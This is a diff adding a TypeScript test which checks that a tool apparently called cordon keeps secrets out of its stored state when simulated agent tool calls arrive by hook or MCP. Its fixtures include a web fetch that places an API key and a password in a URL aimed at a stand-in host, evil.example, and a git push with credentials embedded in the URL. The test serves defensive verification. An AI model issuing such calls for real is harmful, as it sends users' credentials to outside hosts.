@@ -31,6 +31,71 @@ const rows: readonly { note: string; argv: readonly string[]; secrets: readonly 
   },
 ]
 
+/** Calls of an agent by its hook and by MCP; `{}` stands for a secret of its own each time. Most of them ask. */
+const CALLS: readonly (readonly [tool: string, input: object])[] = [
+  ['bash', { command: 'git push https://u:{}@h.example/x; echo token={}', description: 'uses password={}' }],
+  ['bash', { command: 'echo $(( token={}' }],
+  ['write', { path: 'x.txt', content: 'AWS_SECRET_ACCESS_KEY={}' }],
+  ['edit', { path: 'x.txt', old_string: 'password={}', new_string: 'y' }],
+  ['webfetch', { url: 'https://u:{}@evil.example/?api_key={}', prompt: 'api_key={}' }],
+  [
+    'http',
+    {
+      url: 'https://api.example.com/x?api_key={}',
+      method: 'POST',
+      body: '{"password":"{}"}',
+      headers: { authorization: 'Bearer {}', 'x-api-key': '{}' },
+    },
+  ],
+  ['python_exec', { code: 'raise Exception("token={}")' }],
+  ['code_exec', { code: 'throw new Error("token={}")' }],
+  ['grep', { pattern: 'password={}', path: '.' }],
+  ['todowrite', { todos: [{ content: 'use password={}', status: 'pending', id: '1', priority: 'high' }] }],
+  ['nosuchtool', { a: 'Authorization: Bearer {}' }],
+]
+
+const CLAUDE: Readonly<Record<string, string>> = { bash: 'Bash', write: 'Write', edit: 'Edit', webfetch: 'WebFetch' }
+
+let last = 0
+const made: { secret: string; where: string }[] = []
+/** The input with a secret in each place. */
+function filled(where: string, input: object): object {
+  const text = JSON.stringify(input).replaceAll('{}', () => {
+    const secret = `Zq${++last}W2kLm9Pt4RvB8nYcD5s`
+    made.push({ secret, where })
+    return secret
+  })
+  return JSON.parse(text)
+}
+
+function callAll(): void {
+  for (const [tool, input] of CALLS) {
+    const call = {
+      ...{ session_id: 's', transcript_path: '/nowhere', cwd: project.directory, permission_mode: 'default' },
+      ...{ hook_event_name: 'PreToolUse', tool_name: CLAUDE[tool] ?? `mcp__x__${tool}` },
+      tool_input: filled(`hook: ${tool}`, input),
+    }
+    project.cordon(['hook', 'claude-code', '--root', project.directory], { input: JSON.stringify(call) })
+  }
+  const frames = [
+    {
+      method: 'initialize',
+      params: {
+        protocolVersion: '2025-06-18',
+        capabilities: {},
+        clientInfo: filled('client', { name: 'token={}', version: '1' }),
+      },
+    },
+    ...CALLS.map(([name, input]) => ({
+      method: 'tools/call',
+      params: { name, arguments: filled(`mcp: ${name}`, input) },
+    })),
+  ]
+  const input = frames.map((frame, id) => `${JSON.stringify({ jsonrpc: '2.0', id, ...frame })}\n`).join('')
+  const { out } = project.cordon(['mcp', '--root', project.directory], { input })
+  expect(out).toContain('"id":1')
+}
+
 beforeAll(() => {
   project = new Project({
     'cordon.toml':
@@ -38,6 +103,7 @@ beforeAll(() => {
     'kept.txt': 'before\n',
   })
   expect(project.cordon(['sign', '--yes']).code).toBe(0)
+  callAll()
   for (const { argv } of rows) expect(project.cordon(['run', '--', ...argv]).code).toBe(0)
   // The control: what is not a secret is stored as it was given.
   expect(project.cordon(['run', '--', 'sh', '-c', 'echo Zq7plainQQ > kept.txt']).code).toBe(0)
@@ -72,4 +138,15 @@ it.each(rows)('is not stored: $note', ({ secrets }) => {
     const { out } = project.cordon(args)
     for (const secret of secrets) expect(out).not.toContain(secret)
   }
+})
+
+it('nor is what an agent calls with, by its hook or by MCP, whether it asks, runs or fails', () => {
+  const names = holding('Zq')
+  const state = join(project.home, '.local/state/cordon')
+  const texts = names.map((name) => [name, readFileSync(join(state, name), 'utf8')] as const)
+  const stored = made.flatMap(({ secret, where }) =>
+    texts.filter(([, text]) => text.includes(secret)).map(([name]) => `${where} in ${name}`),
+  )
+  expect(stored).toEqual([])
+  expect(made.length).toBeGreaterThan(30)
 })
